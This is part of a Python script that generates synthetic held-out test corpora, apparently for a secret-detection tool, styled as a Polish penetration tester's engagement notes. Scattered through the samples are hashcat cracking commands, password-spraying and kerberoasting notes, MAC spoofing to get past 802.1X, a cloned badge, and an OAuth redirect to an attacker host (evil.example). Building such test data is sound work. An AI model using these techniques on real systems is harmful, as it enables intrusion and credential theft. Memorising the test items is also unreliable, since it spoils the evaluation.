    r.add("windows_sid",
          f"domain SID: {sid()}",
          f"adm_kowalski objectSid {sid()}-{digits(4, True)}",
          f"SIDHistory na koncie migracyjnym zawiera {sid()}-512 (!!) → do raportu")

    r.add("ad_object_guid",
          f"objectGUID grupy 'Tier0 Admins': {uid()}",
          f"BloodHound node objectid {uid().upper()}; GPO 'Default Domain Policy' = {{31B2F340-016D-11D2-945F-00C04FB984F9}}",
          f"ACE z WriteDACL: ObjectType {uid()}, InheritedObjectType {uid()}")

    r.add("domain_password_policy",
          "Get-ADDefaultDomainPasswordPolicy\n\nComplexityEnabled    : True\nLockoutThreshold     : 0\nMaxPasswordAge       : 90.00:00:00\nMinPasswordLength    : 8\nPasswordHistoryCount : 5\nReversibleEncryptionEnabled : False",
          "polityka haseł: min 8 znaków, złożoność włączona, brak blokady konta — finding (średni)",
          "FGPP 'PSO-Admins': MinPasswordLength 15, precedence 10, applies to Domain Admins")

    r.add("account_lockout_threshold",
          "lockout threshold = 5, observation window 30 min → spraying max 3 próby / 35 min",
          "uwaga: na VPN lockout po 3 nieudanych logowaniach, NIE sprayować!",
          "nxc smb dc01 --pass-pol\nAccount Lockout Threshold: 10\nReset Account Lockout Counter: 15 minutes\nLocked Account Duration: 15 minutes")

    r.add("default_password_finding",
          f"Finding: panel drukarki HP na {int_ip()} dostępny z domyślnym hasłem producenta (niezmienione od instalacji). Rekomendacja: zmiana hasła + ACL",
          "Tomcat manager on app03 still uses the vendor default credentials — confirmed, logged in, screenshot in evidence/07",
          "iDRAC na 3 serwerach: domyślne hasło root nie zostało zmienione (raport pkt 4.3)")

    r.add("hashcat_mask",
          "maska do haseł sezonowych: ?u?l?l?l?l?d?d?d?d?s",
          "hashcat -a 3 -m 1000 hashes.txt ?u?l?l?l?d?d?d?d -i --increment-min 8",
          "custom charset -1 ?l?d -2 !@#$ mask ?u?1?1?1?1?1?2 → ok. 2h na rigu")

    r.add("hashcat_mode_and_command",
          "hashcat -m 13100 kerb.txt rockyou.txt -r rules/OneRuleToRuleThemAll.rule -O -w 3",
          "tryby: 1000 NTLM, 5600 NetNTLMv2, 13100 TGS-REP, 18200 AS-REP, 13400 KeePass, 22000 WPA",
          f"hashcat --show -m 5600 responder/{int_ip()}.txt | wc -l  → 14 cracked z 61")

    r.add("hashcat_status_output",
          f"Session..........: hashcat\nStatus...........: Exhausted\nHash.Mode........: 1000 (NTLM)\nRecovered........: {secrets.randbelow(400) + 100}/1450 Digests\nSpeed.#1.........: 98412.3 MH/s",
          "Hash.Target......: kerb.txt\nTime.Estimated...: Fri Mar 14 23:10:02 2025 (6 hours, 12 mins)\nGuess.Mask.......: ?u?l?l?l?l?l?d?d [8]")

    r.add("git_commit_sha",
          f"fix for the SQLi deployed in commit {hexs(40)}, retest ok",
          f"leak introduced in {hexs(7)}, removed in {hexs(7)} but still in history (git log -p) — kazałam rotować",
          f"tag v2.14.3 → {hexs(40)}")

    r.add("container_image_digest",
          f"image registry.acme.internal/payments/api@sha256:{hexs(64)}",
          f"trivy: acme/web:1.9.2 (sha256:{hexs(64)}) — 3 CRITICAL, 11 HIGH")

    r.add("aws_arn_resource",
          f"arn:aws:iam::{aws_account()}:role/OrganizationAccountAccessRole assumable from the dev account",
          f"bucket arn:aws:s3:::acme-backups-{hexs(8)} public read (ACL) — finding",
          f"lambda arn:aws:lambda:eu-central-1:{aws_account()}:function:invoice-export, DB creds bierze z SSM /prod/invoice/db (nie w env)")

    r.add("ssh_host_key_fingerprint",
          f"ED25519 key fingerprint is SHA256:{sha256_b64()}.",
          f"host key web02 zmieniony?! nowy SHA256:{sha256_b64()}, stary SHA256:{sha256_b64()}",
          f"ssh-keygen -l -E md5 → MD5:{groups(hexs(32), 2, ':')} root@backup01 (RSA)")

    r.add("ssh_public_key_authorized",
          f"mój klucz publiczny do dodania na jump hoście klienta:\nssh-ed25519 {ssh_pub('ssh-ed25519', 32)} kj@redteam-laptop",
          f"authorized_keys na backup01 zawiera obcy klucz: ssh-rsa {ssh_pub('ssh-rsa', 270)} deploy@ci — persistence?")

    r.add("pgp_public_fingerprint",
          f"mój GPG fingerprint (do stopki maili): {groups(hexs(40).upper(), 4)}",
          f"klucz publiczny klienta do szyfrowania raportu: 0x{hexs(16).upper()}, fpr {hexs(40).upper()}")

    r.add("secret_store_reference",
          "hasło DA z tego testu jest w Vault: secret/engagements/acme-2025/ad/da — nie kopiować do notatek",
          "creds do VPN klienta: 1Password → vault 'Engagements' → item 'ACME VPN ext02'",
          "KeePass: Klienci/Acme/Logistics/SQL sa — tam jest aktualne hasło")

    r.add("env_var_name_reference",
          "skrypt czyta klucz z $HASHTOPOLIS_API_KEY, nie hardkodować",
          "export BURP_LICENSE from ~/.config/redteam/env; CI uses the secret BURP_LICENSE_B64",
          "AWS_PROFILE=acme-audit (credentials via SSO, nie ma statycznych kluczy)")

    r.add("password_rotation_notice",
          "klient potwierdził: hasło svc_sql zmienione 15.03 po naszym zgłoszeniu, kerberoast już nie łamie",
          "rotated the lab wifi password today, new one is on the whiteboard in the lab",
          "krbtgt reset 2x (odstęp 12h) — potwierdzone w logach 4724")

    r.add("company_invoice_iban",
          f"dane do faktury: RedTeam Vistula sp. z o.o., ul. Prosta 20, 00-850 Warszawa, IBAN {iban('PL', digits(24))}, SWIFT BREXPLPW",
          f"konto firmowe EUR: {iban('PL', digits(24))}",
          f"invoice FV/2025/{digits(3)} — pay to {iban('PL', digits(24), False)}")

    r.add("polish_tax_ids",
          f"NIP {nip()}, REGON {regon()}",
          f"klient Acme Logistics NIP {nip()} (do umowy NDA)")

    r.add("parcel_tracking_number",
          f"InPost: nr przesyłki {digits(24)} — Flipper Zero + Proxmark",
          f"DHL tracking JJD{digits(18)}",
          f"paczka z hardware do klienta: Poczta Polska RR{digits(9)}PL")

    r.add("engagement_scope",
          f"scope: 10.20.0.0/16, 172.16.40.0/24, external {doc_ip()}-{secrets.randbelow(50) + 200}; wyłączone: 10.20.99.0/24 (OT!)",
          "out of scope: mail.acme.test, *.prod.acme.internal, anything in AWS account 'billing'")

    r.add("device_mac_address",
          f"dropbox RPi MAC {mac()} — klient musi dodać do NAC whitelist",
          f"MAC spoofing: sklonowałam MAC drukarki {mac('-', True)} żeby ominąć 802.1X")

    r.add("hardware_serial_number",
          f"YubiKey serial {digits(8, True)} (mój, firmowy)",
          f"ThinkPad S/N PF{rnd(UPPER + DIGITS, 6)}, Flipper serial {hexs(8).upper()}")

    r.add("car_licence_plate",
          f"auto służbowe WE {digits(4)}{rnd(UPPER, 1)} — parking klienta poziom -2",
          f"physical test: ochrona spisała nr rejestracyjny W{pick('A', 'X', 'I')} {digits(5)}")

    r.add("phone_number",
          f"kontakt awaryjny u klienta (SOC 24/7): +48 22 {digits(3, True)} {digits(2)} {digits(2)}",
          f"PM z Acme: Tomasz, +48 {digits(3, True)} {digits(3)} {digits(3)}")

    r.add("well_known_empty_hash",
          f"{lm_empty()} = pusty LM hash, nie ma co łamać",
          "31d6cfe0d16ae931b73c59d7e0c089c0 is the NT hash of an empty password — Guest account, disabled",
          "d41d8cd98f00b204e9800998ecf8427e — md5 pustego pliku, sandbox zwrócił to dla 0-bajtowego dropu")

    r.add("klist_ticket_metadata",
          "klist\n#0>  Client: adm_kowalski @ CORP.ACME.INTERNAL\n     Server: krbtgt/CORP.ACME.INTERNAL @ CORP.ACME.INTERNAL\n     KerbTicket Encryption Type: AES-256-CTS-HMAC-SHA1-96\n     Ticket Flags 0x40e10000 -> forwardable renewable initial pre_authent name_canonicalize\n     Start Time: 3/14/2025 9:02:11\n     End Time:   3/14/2025 19:02:11",
          "TGS dla cifs/fs01.corp.acme.internal ma etype 23 (RC4!) — konto SPN nadal RC4, finding")

    r.add("windows_event_id",
          "SOC widział: 4769 z etype 0x17 (kerberoasting), 4625 x312 (spray), nic na 4662",
          "detekcja DCSync: event 4662 z GUID 1131f6aa-9c07-11d1-f79f-00c04fc2dcd2 (DS-Replication-Get-Changes)")

    r.add("mitre_attack_technique",
          "T1558.003 Kerberoasting, T1003.006 DCSync, T1550.002 PtH — do macierzy w raporcie",
          "mapowanie: TA0006 Credential Access / T1110.003 Password Spraying")

    r.add("stripe_publishable_key",
          f"w bundle jest tylko pk_live_51{rnd(ALNUM, 97)} — to klucz publiczny, nie finding",
          f"Stripe.js init: Stripe('pk_test_51{rnd(ALNUM, 97)}') na stagingu")

    r.add("recaptcha_site_key",
          f"reCAPTCHA sitekey 6L{rnd(URLSAFE, 38)} (public, w źródle strony) — brak weryfikacji po stronie serwera!",
          f"<div class=\"g-recaptcha\" data-sitekey=\"6L{rnd(URLSAFE, 38)}\"></div> na /login")

    r.add("algolia_search_only_key",
          f"Algolia w search.js: appId {rnd(UPPER + DIGITS, 10)}, search-only key {hexs(32)} — ACL tylko 'search', sprawdzone, to nie admin key",
          f"algolia key from the frontend: {hexs(32)} (acl: [search]) — ok by design")

    r.add("bitlocker_protector_id",
          f"manage-bde -protectors -get C:\n  TPM:\n    ID: {{{uid().upper()}}}\n  Numerical Password:\n    ID: {{{uid().upper()}}}\n(samego hasła odzyskiwania nie kopiowałam, jest w AD)",
          f"BitLocker key ID {uid().upper()[:8]} — klucz odzyskiwania leży w Intune")

    r.add("certificate_serial_number",
          f"ADCS ESC8: cert wystawiony, serial {hexs(38)}, template 'Machine'",
          f"certyfikat www: Serial Number: {groups(hexs(32), 2, ':')}")

    r.add("travel_booking_reference",
          f"PKP Intercity Warszawa Centralna → Gdańsk Gł. 07:15, wagon 7 miejsce {secrets.randbelow(80) + 1}, bilet eIC{digits(8)}",
          f"LOT booking ref {rnd(UPPER + DIGITS, 6)} WAW→ARN, hotel conf {digits(10, True)}")

    r.add("http_request_id",
          f"500 na /api/export, X-Request-Id: {uid()}, cf-ray {hexs(16)}-WAW — dołączyć do ticketu",
          f"x-amzn-RequestId: {uid()}\nx-amz-id-2: {b64(secrets.token_bytes(48))}")

    r.add("spn_listing",
          "setspn -Q */*: MSSQLSvc/sql01.corp.acme.internal:1433 (svc_sql), HTTP/intranet.corp.acme.internal (svc_web)",
          "kerberoastable accounts: 7 (svc_sql, svc_web, svc_backup ...), 2 z adminCount=1")

    r.add("adcs_template_finding",
          "Certipy find → template 'UserAuthAcme' ESC1 (ENROLLEE_SUPPLIES_SUBJECT + Client Auth, Domain Users can enroll)",
          f"CA: ACME-ROOT-CA, CA cert thumbprint {hexs(40).upper()} — ESC8, web enrollment po http")

    r.add("software_version_string",
          "Burp Suite Professional v2025.2.4, Java 21; Impacket 0.12.0; NetExec 1.3.0",
          f"banner: SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.{secrets.randbelow(12)}, OpenSSL 3.0.2 15 Mar 2022")

    r.add("mfa_reset_note",
          "poprosiłam helpdesk o reset MFA na koncie testowym — nowy seed przyjdzie przez portal, nie mailem",
          "MFA push fatigue test: user zatwierdził 3. powiadomienie, nie podawałam żadnego kodu")

    r.add("azure_public_ids",
          f"Azure tenant id {uid()}, app (client) id {uid()} — to nie są sekrety, client secret jest w Key Vault kv-acme-pt",
          f"AzureHound: tenant {uid()}, subscription {uid()}")

    r.add("google_oauth_client_id",
          f"Google Sign-In client_id: {digits(12, True)}-{rnd(LOWER + DIGITS, 32)}.apps.googleusercontent.com (w index.html, publiczne)",
          f"OAuth redirect misconfig: client_id={digits(12, True)}-{rnd(LOWER + DIGITS, 32)}.apps.googleusercontent.com&redirect_uri=https://evil.example/cb")

    r.add("sigma_rule_id",
          f"sigma id: {uid()} (proc_creation_win_hktl_rubeus), status: test",
          f"reguła SIEM dla kerberoastingu: {uid()} — nie odpaliła podczas testu")

    r.add("laps_expiry_timestamp",
          f"ms-Mcs-AdmPwdExpirationTime: 133{digits(15)} → ~kwiecień 2025, LAPS działa tylko na 40% stacji",
          "msLAPS-PasswordExpirationTime ustawione na 30 dni, hasła same się rotują")

    r.add("lab_wifi_network_info",
          f"lab Wi-Fi: SSID RedLab-5G, kanał 36, WPA3-SAE, BSSID {mac()} — hasło u Marka",
          "WPA2 handshake z sieci gościnnej klienta przechwycony (hashcat 22000), nie złamany w 24h → rekomendacja OK")

    r.add("engagement_vpn_profile",
          "acme_pentest.ovpn:\nclient\nremote vpn.acme.test 1194 udp\ncipher AES-256-GCM\nauth SHA256\nauth-user-pass\nverb 3",
          "VPN do klienta działa od 08:00, konto ext_pentest_kj, hasło dostałam SMS-em (nie zapisuję)")

    r.add("bank_transaction_reference",
          f"zapłacone BLIKiem, nr transakcji {digits(12, True)}, 249,00 zł — x33fcon bilet",
          f"przelew do PortSwigger, tytuł INV-{digits(6, True)}, ref. {rnd(UPPER + DIGITS, 16)}")

    r.add("burp_licence_admin",
          f"Burp Pro: 3 seaty, odnowienie 14.11, faktura PortSwigger INV-{digits(6, True)}; klucz licencyjny w 1Password",
          "licencja Burpa przeniesiona na nowy laptop, stara dezaktywowana w portalu")

    r.add("door_code_reference",
          "kod do drzwi się zmienił, nowy przyjdzie SMS-em od recepcji",
          "physical test: badge reader at the loading dock accepted a cloned HID card (facility code 37), no PIN prompt")

    r.add("address_postcode",
          "biuro: ul. Prosta 20, 00-850 Warszawa; klient: ul. Marszałkowska 142, 00-061 Warszawa",
          "adres do wysyłki dropboxa: Acme Logistics, Magazyn C, 05-800 Pruszków")
    return r


def main() -> None:
    write_corpora("make_heldout111.py", [
        ("heldout111_credentials.yaml", credentials(), "batch 111 (Warsaw penetration tester's engagement notes, Polish and English), written blind; every value synthetic"),
        ("heldout111_lookalikes.yaml", lookalikes(), "batch 111 look-alikes: malware hashes, IoCs, fingerprints, AD ids, CVSS, hashcat masks and password policies, written blind"),
    ])


if __name__ == "__main__":
    main()
